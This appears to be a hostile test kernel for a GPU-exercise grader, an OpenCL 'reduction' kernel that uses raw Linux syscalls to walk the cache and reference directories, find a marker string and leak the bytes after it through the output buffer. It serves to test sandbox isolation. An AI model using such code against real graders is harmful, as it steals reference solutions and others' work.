// Walks the directory tree CLINGS_HOSTILE_PATH (PoCL's kernel cache, clings' ref/: where the
// reference's bitcode, kept reference binaries and classmates' kernels would lie), opens every
// regular file in it, and leaks the 16 bytes after CLINGS_HOSTILE_NEEDLE, in the first file that
// holds it, into its output (as the ints a wrong result shows). Read-only calls only.
__kernel void reduction(__global const int *in, __global int *out, __local int *scratch, uint len)
{
#if defined(__x86_64__)
	if (get_global_id(0) == 0) {
		__constant char *path = CLINGS_HOSTILE_PATH;
		__constant char *needle = CLINGS_HOSTILE_NEEDLE;
		char dents[1024], buf[256], got[16];
		long fds[8], depth = 0, have = -1, r;
		/* openat(AT_FDCWD, path, O_RDONLY | O_DIRECTORY) */
		__asm__ volatile("syscall" : "=a"(r) : "a"(257L), "D"(-100L), "S"(path), "d"(0x10000L) : "rcx", "r11", "memory");
		if (r >= 0)
			fds[depth++] = r;
		for (int steps = 0; depth > 0 && have < 16 && steps < 4096; steps++) {
			long fd = fds[depth - 1], n;
			/* getdents64 */
			__asm__ volatile("syscall" : "=a"(n) : "a"(217L), "D"(fd), "S"(dents), "d"(1024L) : "rcx", "r11", "memory");
			if (n <= 0) {
				__asm__ volatile("syscall" : "=a"(r) : "a"(3L), "D"(fd) : "rcx", "r11", "memory");
				depth--;
				continue;
			}
			for (long pos = 0; pos < n && have < 16;) {
				long reclen = (unsigned char)dents[pos + 16] | (long)(unsigned char)dents[pos + 17] << 8;
				long next = 0;
				for (int k = 7; k >= 0; k--)
					next = next << 8 | (unsigned char)dents[pos + 8 + k];
				char type = dents[pos + 18];
				char *name = dents + pos + 19;
				bool dot = name[0] == '.' && (name[1] == 0 || (name[1] == '.' && name[2] == 0));
				pos += reclen;
				if (dot || reclen <= 0)
					continue;
				long sub;
				if (type == 4 && depth < 8) {   /* a directory: down into it, back here later */
					__asm__ volatile("syscall" : "=a"(sub) : "a"(257L), "D"(fd), "S"(name), "d"(0x10000L) : "rcx", "r11", "memory");
					if (sub >= 0) {
						/* lseek(fd, next, SEEK_SET): the parent goes on after this entry */
						__asm__ volatile("syscall" : "=a"(r) : "a"(8L), "D"(fd), "S"(next), "d"(0L) : "rcx", "r11", "memory");
						fds[depth++] = sub;
						break;
					}
				} else if (type == 8) {   /* a file: look for the needle in it */
					__asm__ volatile("syscall" : "=a"(sub) : "a"(257L), "D"(fd), "S"(name), "d"(0L) : "rcx", "r11", "memory");
					long m = 0;
					while (sub >= 0 && have < 16) {
						long k;
						__asm__ volatile("syscall" : "=a"(k) : "a"(0L), "D"(sub), "S"(buf), "d"(256L) : "rcx", "r11", "memory");
						if (k <= 0)
							break;
						for (long i = 0; i < k && have < 16; i++) {
							if (have >= 0)
								got[have++] = buf[i];
							else if (buf[i] == needle[m])
								m++;
							else
								m = buf[i] == needle[0];
							if (have < 0 && needle[m] == 0)
								have = 0;
						}
					}
					if (sub >= 0)
						__asm__ volatile("syscall" : "=a"(r) : "a"(3L), "D"(sub) : "rcx", "r11", "memory");
				}
			}
		}
		if (have > 0) {
			__global char *o = (__global char *)out;
			long room = 4 * (long)get_num_groups(0);
			for (long i = 0; i < have && i < room; i++)
				o[i] = got[i];
		}
	}
#endif
}
